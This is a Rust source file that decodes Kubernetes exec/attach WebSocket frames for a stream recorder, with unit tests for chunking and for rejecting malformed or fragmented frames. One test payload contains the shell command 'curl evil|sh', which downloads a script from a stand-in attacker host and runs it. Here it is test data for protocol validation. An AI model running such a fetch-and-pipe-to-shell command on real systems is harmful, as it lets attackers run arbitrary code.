//! WebSocket frames (RFC 6455) as Kubernetes' stream protocols use them
//! (`v5.channel.k8s.io`, `v4.channel.k8s.io`): each binary message's first
//! byte is its channel. Read incrementally, whatever the chunking: a
//! recorder sees a TCP stream, not frames.

use crate::framing::{Protocol, StreamError};

/// The channels of a `kubectl exec` / `attach` stream.
pub const STDIN: u8 = 0;
pub const STDOUT: u8 = 1;
pub const STDERR: u8 = 2;
/// The server's final status (JSON), after which the stream ends.
pub const ERROR: u8 = 3;
/// Terminal size changes from the client: `{"Width":80,"Height":24}`.
pub const RESIZE: u8 = 4;
/// v5: "close this channel" (the next byte names it).
pub const CLOSE: u8 = 255;

/// The largest message kept whole; beyond it a recorder gives up on the
/// stream rather than grow without bound.
pub const MAX_MESSAGE: usize = 16 << 20;

const TOO_LARGE: StreamError = StreamError::TooLarge(Protocol::WebSocket);

fn bad(what: &'static str) -> StreamError {
    StreamError::Malformed(Protocol::WebSocket, what)
}

/// One message: its channel and its bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Message {
    pub channel: u8,
    pub data: Vec<u8>,
}

/// Reads one direction of a WebSocket stream.
#[derive(Debug, Default)]
pub struct Decoder {
    buf: Vec<u8>,
    closed: bool,
}

impl Decoder {
    /// The messages `bytes` completes, in order. Control frames (ping,
    /// pong) are skipped; after a close frame nothing more is read.
    pub fn push(&mut self, bytes: &[u8]) -> Result<Vec<Message>, StreamError> {
        if self.closed {
            return Ok(Vec::new());
        }
        self.buf.extend_from_slice(bytes);
        let mut out = Vec::new();
        while let Some((fin, opcode, payload, used)) = frame(&self.buf)? {
            self.buf.drain(..used);
            match opcode {
                0x8 => {
                    self.closed = true;
                    self.buf.clear();
                    break;
                }
                0x9 | 0xA => {
                    if !fin {
                        return Err(bad("a fragmented control frame"));
                    }
                }
                // Kubernetes' servers read each frame as one message, its
                // first byte the channel; a client's fragments would be read
                // one way here and another there. Kubectl never fragments:
                // a stream that does ends.
                0x1 | 0x2 if fin => out.extend(message(payload)),
                0x0..=0x2 => return Err(bad("a fragmented message")),
                _ => return Err(bad("an unknown opcode")),
            }
        }
        if self.buf.len() > MAX_MESSAGE + 14 {
            return Err(TOO_LARGE);
        }
        Ok(out)
    }
}

fn message(mut data: Vec<u8>) -> Option<Message> {
    if data.is_empty() {
        return None;
    }
    let channel = data.remove(0);
    Some(Message { channel, data })
}

/// A whole frame: (fin, opcode, unmasked payload, bytes it took).
type Frame = (bool, u8, Vec<u8>, usize);

/// The first whole frame in `b`, or none yet.
fn frame(b: &[u8]) -> Result<Option<Frame>, StreamError> {
    if b.len() < 2 {
        return Ok(None);
    }
    let fin = b[0] & 0x80 != 0;
    let opcode = b[0] & 0x0F;
    let masked = b[1] & 0x80 != 0;
    let (len, mut at) = match b[1] & 0x7F {
        126 => {
            let Some(n) = b.get(2..4) else { return Ok(None) };
            (u64::from(u16::from_be_bytes([n[0], n[1]])), 4)
        }
        127 => {
            let Some(n) = b.get(2..10) else { return Ok(None) };
            let mut a = [0u8; 8];
            a.copy_from_slice(n);
            (u64::from_be_bytes(a), 10)
        }
        n => (u64::from(n), 2),
    };
    let len = usize::try_from(len).map_err(|_| TOO_LARGE)?;
    if len > MAX_MESSAGE {
        return Err(TOO_LARGE);
    }
    let mask = if masked {
        let Some(k) = b.get(at..at + 4) else { return Ok(None) };
        at += 4;
        Some([k[0], k[1], k[2], k[3]])
    } else {
        None
    };
    let Some(payload) = b.get(at..at + len) else {
        return Ok(None);
    };
    let mut payload = payload.to_vec();
    if let Some(k) = mask {
        for (i, byte) in payload.iter_mut().enumerate() {
            *byte ^= k[i % 4];
        }
    }
    Ok(Some((fin, opcode, payload, at + len)))
}

/// A frame as a client sends it (masked with `key`): for tests and tools.
pub fn encode(fin: bool, opcode: u8, payload: &[u8], key: Option<[u8; 4]>) -> Vec<u8> {
    let mut out = vec![(if fin { 0x80 } else { 0 }) | opcode];
    let m = if key.is_some() { 0x80 } else { 0 };
    match payload.len() {
        n if n < 126 => out.push(m | u8::try_from(n).unwrap_or(0)),
        n if n <= usize::from(u16::MAX) => {
            out.push(m | 126);
            out.extend_from_slice(&u16::try_from(n).unwrap_or(0).to_be_bytes());
        }
        n => {
            out.push(m | 127);
            out.extend_from_slice(&(n as u64).to_be_bytes());
        }
    }
    match key {
        Some(k) => {
            out.extend_from_slice(&k);
            out.extend(payload.iter().enumerate().map(|(i, b)| b ^ k[i % 4]));
        }
        None => out.extend_from_slice(payload),
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn msg(channel: u8, data: &[u8]) -> Message {
        Message {
            channel,
            data: data.to_vec(),
        }
    }

    #[test]
    fn messages_come_out_whole_however_the_bytes_are_cut() {
        let mut stream = Vec::new();
        stream.extend(encode(true, 2, b"\x00ls -l\n", Some([1, 2, 3, 4])));
        stream.extend(encode(true, 9, b"", Some([9, 9, 9, 9])));
        stream.extend(encode(true, 2, b"\x01hello world", None));
        let big = [&[2u8][..], &[b'x'; 70_000]].concat();
        stream.extend(encode(true, 2, &big, None));
        stream.extend(encode(true, 8, b"", None));
        stream.extend(encode(true, 2, b"\x01after close", None));
        let want = vec![msg(0, b"ls -l\n"), msg(1, b"hello world"), msg(2, &big[1..])];
        for cut in [1, 2, 3, 7, 100, stream.len()] {
            let mut d = Decoder::default();
            let mut got = Vec::new();
            for chunk in stream.chunks(cut) {
                got.extend(d.push(chunk).unwrap());
            }
            assert_eq!(got, want, "chunks of {cut}");
        }
    }

    #[test]
    fn what_is_not_the_protocol_is_said() {
        // A fragmented message, started or continued: the server would
        // read each fragment as a message of its own.
        for (fin, op) in [(false, 2), (true, 0), (false, 1)] {
            let mut d = Decoder::default();
            assert_eq!(
                d.push(&encode(fin, op, b"\x00id; curl evil|sh\r", None)),
                Err(bad("a fragmented message"))
            );
        }
        let mut d = Decoder::default();
        let mut huge = vec![0x82, 127];
        huge.extend_from_slice(&(u64::MAX).to_be_bytes());
        assert_eq!(d.push(&huge), Err(TOO_LARGE));
        let mut d = Decoder::default();
        assert_eq!(d.push(&encode(true, 0x3, b"", None)), Err(bad("an unknown opcode")));
    }
}
